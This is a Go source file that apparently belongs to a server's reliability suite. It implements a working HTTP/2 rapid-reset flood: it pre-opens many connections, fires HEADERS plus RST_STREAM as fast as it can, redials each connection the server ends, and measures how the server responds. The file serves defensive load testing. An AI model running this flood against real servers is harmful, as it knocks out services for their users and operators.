// Package floodtest runs the pre-opened HTTP/2 flood of issue 25 and measures what it does
// to a server: one client address opens many connections first, then sends HEADERS and
// RST_STREAM on all of them at once as fast as it can, each connection redialling when the
// server ends it. The reliability suite asserts on its figures (reliability/preopen_test.go)
// and bench/h2flood's -preopen mode prints them for the ingress, nginx and HAProxy
// (bench/flood.sh).
//
// It speaks raw frames (x/net/http2's Framer and hpack), so it depends on no server
// implementation. Besides the attack it has the two other instruments of a flood run:
// Probe (a bystander's latencies) and Watch (a server's heap, goroutines, RSS and
// descriptors over time).
package floodtest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one pre-opened flood.
type Attack struct {
	// Addr is the server's address; SNI, when set, makes the connections TLS with ALPN
	// h2 (certificates are not checked), else they are h2c with prior knowledge.
	Addr, SNI string
	// From is the attacker's source address (nil: the system's choice).
	From net.IP
	// Conns connections are opened (and served: the server's first frame read) before
	// the flood begins (a dial refused is tried again), for at most OpenLimit.
	Conns     int
	OpenLimit time.Duration
	// Host and Path are the :authority and :path of every flooding stream.
	Host, Path string
	// Duration is how long the flood lasts once the connections are open.
	Duration time.Duration
	// FloodNice, when positive, is the niceness the attacker's process takes once its
	// connections are open (Linux; every thread of it): where it shares a core with the
	// server and the bystanders it then takes what they leave, as another machine
	// would, while the pre-open, which is setup, runs at an equal share.
	FloodNice int `json:"floodNice"`
}

// Point is the number of served attacker connections alive at one moment.
type Point struct {
	At    time.Time `json:"at"`
	Alive int64     `json:"alive"`
}

// Result is what a flood did, from the attacker's side. A connection is "served" once
// the server's first frame (its SETTINGS) was read: a connection the server accepted but
// holds unread (a tarpit) or whose TLS handshake it never finishes is not, and gets no
// stream. It is "alive" from then until the server ends it: GOAWAY (the attacker closes
// it at once: streams past the last one the server took are lost anyway) or a close.
type Result struct {
	// Opened is how many of the Conns were served before the flood began.
	Opened int `json:"opened"`
	// Streams counts HEADERS (each followed by RST_STREAM) written.
	Streams int64 `json:"streams"`
	// Dials counts connections made, Served those the server served (both include the
	// pre-opened ones).
	Dials  int64 `json:"dials"`
	Served int64 `json:"served"`
	// Calm, GoAway and Closed count served connections the server ended with GOAWAY
	// ENHANCE_YOUR_CALM, with another GOAWAY, and without GOAWAY.
	Calm   int64 `json:"calm"`
	GoAway int64 `json:"goaway"`
	Closed int64 `json:"closed"`
	// Start and End bound the flood (after the pre-open).
	Start time.Time `json:"start"`
	End   time.Time `json:"end"`
	// Verdict is the first GOAWAY ENHANCE_YOUR_CALM read; FirstGoAway the first GOAWAY
	// of any code (FirstCode).
	Verdict     time.Time `json:"verdict"`
	FirstGoAway time.Time `json:"firstGoAway"`
	FirstCode   string    `json:"firstCode"`
	// Empty lists the spans of the flood during which no served connection was alive
	// (the server had ended them all); To is zero for one that lasted to the end.
	Empty []Span `json:"empty"`
	// PreopenedGone is when the server had ended the last of the Opened connections;
	// zero when one of them lasted until the flood's end.
	PreopenedGone time.Time `json:"preopenedGone"`
	// Alive samples the served connections alive every 250 ms during the flood.
	Alive []Point `json:"alive"`
	// Stall is the longest the attacker's process left a goroutine waiting past its
	// 10 ms tick during the flood: a loaded machine's delay in seeing a connection end.
	Stall time.Duration `json:"stall"`
}

// Span is a stretch of time; To is zero when it lasted to the flood's end.
type Span struct {
	From time.Time `json:"from"`
	To   time.Time `json:"to"`
}

// aliveEvery is the period of Result.Alive.
const aliveEvery = 250 * time.Millisecond

// book is the flood's shared accounting. Its counters are atomics; the moments are
// written under mu (once per connection's end, not per stream).
type book struct {
	streams, dials, served, calm, goaway, closed, alive atomic.Int64

	mu          sync.Mutex
	start, stop time.Time // the flood's bounds: ends after stop are the attacker's
	res         *Result
	preopenLeft int
}

// ended records that the served connection c ended; how says by what.
func (b *book) ended(c *conn, how endKind) {
	n := b.alive.Add(-1)
	now := time.Now()
	b.mu.Lock()
	defer b.mu.Unlock()
	if !b.stop.IsZero() && !now.Before(b.stop) {
		how = endOurs // the flood was over: the attacker was closing everything
	}
	switch how {
	case endCalm:
		b.calm.Add(1)
	case endGoAway:
		b.goaway.Add(1)
	case endClosed:
		b.closed.Add(1)
	}
	switch {
	case c.preopened && b.start.IsZero():
		c.goneEarly = true
	case c.preopened && how != endOurs:
		if b.preopenLeft--; b.preopenLeft == 0 {
			b.res.PreopenedGone = now
		}
	}
	if n == 0 && !b.start.IsZero() && how != endOurs {
		b.res.Empty = append(b.res.Empty, Span{From: now})
	}
}

// servedOne records that a connection was served; it ends a span without any.
func (b *book) servedOne() {
	b.served.Add(1)
	if b.alive.Add(1) != 1 {
		return
	}
	now := time.Now()
	b.mu.Lock()
	defer b.mu.Unlock()
	if e := b.res.Empty; len(e) > 0 && e[len(e)-1].To.IsZero() && now.Before(b.stop) {
		e[len(e)-1].To = now
	}
}

// goAway records a GOAWAY read.
func (b *book) goAway(code http2.ErrCode) {
	now := time.Now()
	b.mu.Lock()
	defer b.mu.Unlock()
	if !b.stop.IsZero() && !now.Before(b.stop) {
		return // after the flood: the attacker was closing everything
	}
	if b.res.FirstGoAway.IsZero() {
		b.res.FirstGoAway, b.res.FirstCode = now, code.String()
	}
	if code == http2.ErrCodeEnhanceYourCalm && b.res.Verdict.IsZero() {
		b.res.Verdict = now
	}
}

type endKind int

const (
	endClosed endKind = iota // the server closed (or reset) the connection without GOAWAY
	endGoAway                // GOAWAY with a code other than ENHANCE_YOUR_CALM
	endCalm                  // GOAWAY ENHANCE_YOUR_CALM
	endOurs                  // the attacker closed it (the flood is over)
)

// conn is one attacking connection: written by its slot's goroutine, read by its reader.
type conn struct {
	nc        net.Conn
	bw        *bufio.Writer
	fr        *http2.Framer // writes to bw
	first     []byte        // the first header block (fills the server's dynamic table)
	rest      []byte        // every later one (indexed fields only)
	preopened bool
	goneEarly bool          // ended before the flood began (under book.mu)
	served    chan struct{} // closed when the server's first frame was read
	done      chan struct{} // closed when the reader stopped
	over      atomic.Bool   // the server ended it (GOAWAY or close)
	ours      atomic.Bool   // the attacker closed it (the flood is over, or it was not served in time)
}

// close closes the connection from the attacker's side: its end is not the server's doing.
func (c *conn) close() {
	c.ours.Store(true)
	c.nc.Close()
}

// dial connects from a.From, sends the preface and empty SETTINGS, and starts the
// reader. ctx bounds the dial and the TLS handshake only.
func dial(ctx, life context.Context, a *Attack, b *book, preopened bool) (*conn, error) {
	d := &net.Dialer{}
	if a.From != nil {
		d.LocalAddr = &net.TCPAddr{IP: a.From}
	}
	nc, err := d.DialContext(ctx, "tcp", a.Addr)
	if err != nil {
		return nil, err
	}
	b.dials.Add(1)
	if a.SNI != "" {
		tc := tls.Client(nc, &tls.Config{ServerName: a.SNI, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if err := tc.HandshakeContext(ctx); err != nil {
			nc.Close()
			return nil, err
		}
		if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
			nc.Close()
			return nil, fmt.Errorf("ALPN chose %q, not h2", p)
		}
		nc = tc
	}
	c := &conn{nc: nc, preopened: preopened, served: make(chan struct{}), done: make(chan struct{})}
	c.bw = bufio.NewWriterSize(nc, 4<<10)
	c.fr = http2.NewFramer(c.bw, nil)
	scheme := "http"
	if a.SNI != "" {
		scheme = "https"
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	encode := func() []byte {
		hb.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", scheme}, {":authority", a.Host}, {":path", a.Path}} {
			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		return bytes.Clone(hb.Bytes())
	}
	c.first, c.rest = encode(), encode()
	stop := context.AfterFunc(life, func() { nc.Close() })
	_, err = c.bw.WriteString(http2.ClientPreface)
	if err == nil {
		err = c.fr.WriteSettings()
	}
	if err == nil {
		err = c.bw.Flush()
	}
	if err != nil {
		stop()
		nc.Close()
		return nil, err
	}
	go c.read(life, b, stop)
	return c, nil
}

// read reads the server's frames until the connection ends, marks it served at the first
// one, and records how it ended. On a GOAWAY it closes the connection: the writer's next
// write fails and its slot redials.
func (c *conn) read(life context.Context, b *book, stop func() bool) {
	defer close(c.done)
	defer stop()
	fr := http2.NewFramer(nil, bufio.NewReaderSize(c.nc, 16<<10))
	served := false
	how := endClosed
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			if c.ours.Load() || life.Err() != nil {
				how = endOurs
			}
			break
		}
		if !served {
			served = true
			b.servedOne()
			close(c.served)
		}
		if ga, ok := f.(*http2.GoAwayFrame); ok {
			b.goAway(ga.ErrCode)
			how = endGoAway
			if ga.ErrCode == http2.ErrCodeEnhanceYourCalm {
				how = endCalm
			}
			break
		}
	}
	c.over.Store(how != endOurs)
	c.nc.Close()
	if served {
		b.ended(c, how)
	}
}

// flood writes HEADERS then RST_STREAM (CANCEL), one stream per write, until a write
// fails, the server ends the connection or life ends.
func (c *conn) flood(life context.Context, b *book) {
	for id := uint32(1); id < 1<<31-2 && life.Err() == nil && !c.over.Load(); id += 2 {
		block := c.rest
		if id == 1 {
			block = c.first
		}
		if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return
		}
		if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return
		}
		if err := c.bw.Flush(); err != nil {
			return
		}
		b.streams.Add(1)
	}
}

// Run opens a.Conns connections, waits until the server served them (at most
// a.OpenLimit), then floods on all of them for a.Duration, each slot redialling at once
// whenever the server ended its connection. It returns when every connection is closed.
// It fails only when no connection could be opened at all.
func Run(ctx context.Context, a Attack) (Result, error) {
	var res Result
	b := &book{res: &res}
	life, stopLife := context.WithCancel(ctx)
	defer stopLife()

	// Pre-open: every connection served, or given up at the limit.
	openCtx, cancelOpen := context.WithTimeout(ctx, a.OpenLimit)
	conns := make([]*conn, a.Conns)
	var firstErr atomic.Pointer[error] // errors of several concrete types: no atomic.Value
	var wg sync.WaitGroup
	for i := range conns {
		wg.Go(func() {
			// A dial refused or ended before its answer (a handshake bound reached on a
			// loaded machine) is tried again until the limit: the pre-open is setup.
			for openCtx.Err() == nil {
				c, err := dial(openCtx, life, &a, b, true)
				if err != nil {
					firstErr.CompareAndSwap(nil, &err)
					select {
					case <-openCtx.Done():
					case <-time.After(preopenRetry):
					}
					continue
				}
				select {
				case <-c.served:
					conns[i] = c
					return
				case <-c.done:
				case <-openCtx.Done():
					c.close()
					<-c.done
				}
			}
		})
	}
	wg.Wait()
	cancelOpen()
	for _, c := range conns {
		if c != nil {
			res.Opened++
		}
	}
	if res.Opened == 0 {
		var err error
		if p := firstErr.Load(); p != nil {
			err = *p
		}
		return res, fmt.Errorf("no connection opened: %v", err)
	}

	// The flood.
	if a.FloodNice > 0 {
		if err := renice(a.FloodNice); err != nil {
			return res, fmt.Errorf("niceness %d for the flood: %v", a.FloodNice, err)
		}
	}
	floodCtx, cancel := context.WithTimeout(life, a.Duration)
	defer cancel()
	b.mu.Lock()
	b.start = time.Now()
	b.stop = b.start.Add(a.Duration)
	res.Start = b.start
	for _, c := range conns {
		if c != nil && !c.goneEarly {
			b.preopenLeft++
		}
	}
	b.mu.Unlock()
	wg.Go(func() { sampleAlive(floodCtx, b, &res) })
	wg.Go(func() { res.Stall = longestStall(floodCtx) })
	for _, c := range conns {
		wg.Go(func() { slot(floodCtx, life, &a, b, c) })
	}
	<-floodCtx.Done()
	b.mu.Lock()
	res.End = time.Now()
	b.mu.Unlock()
	stopLife() // closes every connection
	wg.Wait()
	res.Streams, res.Dials, res.Served = b.streams.Load(), b.dials.Load(), b.served.Load()
	res.Calm, res.GoAway, res.Closed = b.calm.Load(), b.goaway.Load(), b.closed.Load()
	return res, nil
}

// slot floods on c (nil: not opened) and on every connection it redials after the server
// ended the one before, until floodCtx ends.
func slot(floodCtx, life context.Context, a *Attack, b *book, c *conn) {
	pause := func() {
		select {
		case <-floodCtx.Done():
		case <-time.After(refusedPause):
		}
	}
	for floodCtx.Err() == nil {
		if c == nil {
			var err error
			if c, err = dial(floodCtx, life, a, b, false); err != nil {
				pause()
				continue
			}
			select {
			case <-c.served:
			case <-c.done:
				pause() // refused: closed before its first frame
			case <-floodCtx.Done():
			}
		}
		c.flood(floodCtx, b)
		if floodCtx.Err() == nil {
			// The server ended it (its GOAWAY read, or a write failed): the reader
			// sees how before the connection is closed from this side.
			select {
			case <-c.done:
			case <-floodCtx.Done():
			case <-time.After(time.Second):
			}
		}
		c.close()
		<-c.done
		c = nil
	}
}

// refusedPause is how long a slot waits before dialling again after a failed dial or a
// connection closed before the server served it. A served connection that ended is
// redialled at once; a refusal redialled at once would have the attacker's process spin
// on a core of the machine it shares with the server and the bystanders, measuring the
// attacker's CPU rather than the server.
const refusedPause = 50 * time.Millisecond

// sampleAlive appends the served connections alive to res.Alive every aliveEvery.
func sampleAlive(ctx context.Context, b *book, res *Result) {
	tick := time.NewTicker(aliveEvery)
	defer tick.Stop()
	for {
		b.mu.Lock()
		res.Alive = append(res.Alive, Point{At: time.Now(), Alive: b.alive.Load()})
		b.mu.Unlock()
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

// longestStall is the longest a goroutine woken every stallTick waited past its tick,
// until ctx ends.
func longestStall(ctx context.Context) time.Duration {
	tick := time.NewTicker(stallTick)
	defer tick.Stop()
	var longest time.Duration
	last := time.Now()
	for {
		select {
		case <-ctx.Done():
			return longest
		case <-tick.C:
		}
		now := time.Now()
		longest = max(longest, now.Sub(last)-stallTick)
		last = now
	}
}

const stallTick = 10 * time.Millisecond

// preopenRetry is the pause before a failed pre-open dial is tried again.
const preopenRetry = 50 * time.Millisecond
